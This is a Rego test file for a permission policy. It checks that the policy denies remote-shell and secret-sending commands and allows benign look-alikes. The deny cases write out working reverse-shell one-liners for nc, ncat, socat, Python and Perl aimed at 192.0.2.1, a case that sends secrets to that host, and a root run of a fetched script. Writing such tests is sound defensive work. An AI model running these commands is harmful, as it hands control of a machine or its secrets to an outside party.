# Tests of what hands this machine to another one.
package permd.base_test

import data.permd.base
import rego.v2

reached := {"kinds": ["run", "connect"], "tags": ["in_project"]}

python(text) := run("python3", ["-c", text], {"known": true, "flags": ["-c"]})

test_remote_shells_denied[name] if {
	some name, example in {
		"interactive shell of a pipe": object.union(run("sh", ["-i"], {"known": true, "flags": ["-i"], "stdin": "pipe"}), {"call": reached}),
		"interactive shell of a socket": object.union(run("bash", ["-i"], {"known": true, "flags": ["-i"], "stdin": "network"}), {"call": reached}),
		"netcat -e": run("nc", ["-e", "/bin/sh", "192.0.2.1", "4444"], {"known": true}),
		"netcat that waits": run("nc", ["-lvp", "4444", "-e", "/bin/bash"], {"known": true}),
		"ncat": run("ncat", ["--exec=/bin/bash", "192.0.2.1"], {"known": true}),
		"ncat, two words": run("ncat", ["--sh-exec", "bash -i", "192.0.2.1"], {"known": true}),
		"socat": run("socat", ["TCP:192.0.2.1:4444", "EXEC:/bin/sh"], {}),
		"socat with options": run("socat", ["exec:'bash -li',pty,stderr", "tcp:192.0.2.1:4444"], {}),
		"python": python(`import socket,os;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);os.system("/bin/sh")`),
		"perl": run("perl", ["-e", `use Socket;connect(S,sockaddr_in(1,inet_aton("192.0.2.1")));open(STDIN,">&S");exec("/bin/sh -i");`], {"known": true, "flags": ["-e"]}),
		"a secret into a socket": object.union(
			sends("192.0.2.1", []),
			{"call": {"kinds": ["connect", "read"], "tags": ["secret"]}},
		),
		"a script that is fetched, as root": effect("unknown", {
			"text": "a script that an earlier part of the call fetches",
			"by": {"program": "sudo", "subcommand": "", "args": ["bash", "/tmp/i"], "inherent": false, "arg": "bash"},
		}),
	}
	count(base.deny) > 0 with input as example
}

test_remote_shells_not_denied[name] if {
	some name, example in {
		"interactive shell, nothing reached": run("bash", ["-i"], {"known": true, "flags": ["-i"], "stdin": "pipe"}),
		"interactive shell of a container": object.union(run("bash", ["-i"], {"known": true, "flags": ["-i"]}), {"call": reached}),
		"interactive for its aliases": object.union(run("bash", ["-ic", "x"], {"known": true, "flags": ["-c", "-i"], "stdin": "pipe"}), {"call": reached}),
		"this machine": object.union(
			run("sh", ["-i"], {"known": true, "flags": ["-i"], "stdin": "pipe"}),
			{"call": {"kinds": ["run", "connect"], "tags": ["loopback"]}},
		),
		"netcat that looks": run("nc", ["-zv", "db.example", "5432"], {"known": true}),
		"netcat of a handler": run("nc", ["-l", "-e", "./handler.py", "8080"], {"known": true}),
		"socat of a handler": run("socat", ["TCP-LISTEN:8080,fork", "EXEC:./handler.sh"], {}),
		"socat of two sockets": run("socat", ["TCP-LISTEN:8080", "TCP:db:5432"], {}),
		"python that asks for its name": python("import socket; print(socket.gethostname())"),
		"python that looks whether a port is open": python(`import socket; s=socket.socket(); print(s.connect_ex(("db", 5432)))`),
		"python that runs a shell": python(`import subprocess; subprocess.call(["/bin/sh", "-c", "ls"])`),
		"words about it": run("grep", ["-rn", "nc -e /bin/sh", "."], reader),
		"a secret into this machine": object.union(
			sends("127.0.0.1", ["loopback"]),
			{"call": {"kinds": ["connect", "read"], "tags": ["secret", "loopback"]}},
		),
		"a script of the call, as root": effect("unknown", {
			"text": "a script that an earlier part of the call writes",
			"by": {"program": "sudo", "subcommand": "", "args": ["bash", "/tmp/i"], "inherent": false, "arg": "bash"},
		}),
	}
	count(base.deny) == 0 with input as example
}
